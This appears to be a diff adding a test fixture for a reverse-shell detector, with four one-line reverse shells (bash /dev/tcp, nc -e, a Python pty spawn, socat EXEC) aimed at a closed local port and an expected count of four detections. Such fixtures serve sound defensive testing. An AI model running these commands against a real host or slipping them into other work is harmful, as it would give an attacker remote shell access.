@@ -1,0 +1,8 @@
+#!/bin/sh
+# Shells call out, to a port that is closed.
+# expects: execution_reverse_shell 4
+
+bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'
+nc -e /bin/sh 127.0.0.1 9
+python3 -c 'import socket,os,pty; s=socket.socket(); os.dup2(s.fileno(),0); pty.spawn("sh")'
+socat TCP:127.0.0.1:9 EXEC:/bin/sh
